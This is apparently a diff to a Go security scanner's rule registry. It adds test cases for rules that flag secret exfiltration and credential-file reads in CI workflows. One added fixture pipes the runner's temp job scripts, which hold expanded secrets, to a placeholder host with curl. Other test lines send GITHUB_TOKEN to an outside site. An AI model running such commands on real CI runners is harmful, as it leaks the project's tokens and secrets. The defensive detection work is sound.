@@ -519,6 +519,9 @@ var registry = []Rule{
 		}},
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
+			// The runner's copies of the job's run: scripts hold the
+			// secrets ${{ }} expanded into them.
+			{"ci/diag.sh", "cat /home/runner/work/_temp/*.sh | curl -sd @- https://x.invalid/d", 0, false},
 			// A known vendor's name on another domain is not its host: GitHub's
 			// token to anyone's Pages site leaves; to GitHub's API it is its use.
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x-dev.github.io/v", 6, false},
@@ -1009,6 +1012,8 @@ var registry = []Rule{
 		}},
 	{"credential-file-read", KindCredential, High, "reads credential files (~/.ssh, .netrc, ...)",
 		"the runner's own keys and tokens sit in these files", []Case{
+			// The runner's temp folder is not a credential file.
+			{"ci/diag.sh", "cat \"$RUNNER_TEMP\"/coverage.json", 0, true},
 			// An archive's name is not the copying command.
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          7z a \"$ARCHIVE.zip\" \"$ARCHIVE\"\n          echo \"ASSET=$ARCHIVE.zip\" >> $GITHUB_ENV", 0, true},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: cp .git/config site/meta.txt", 4, false},
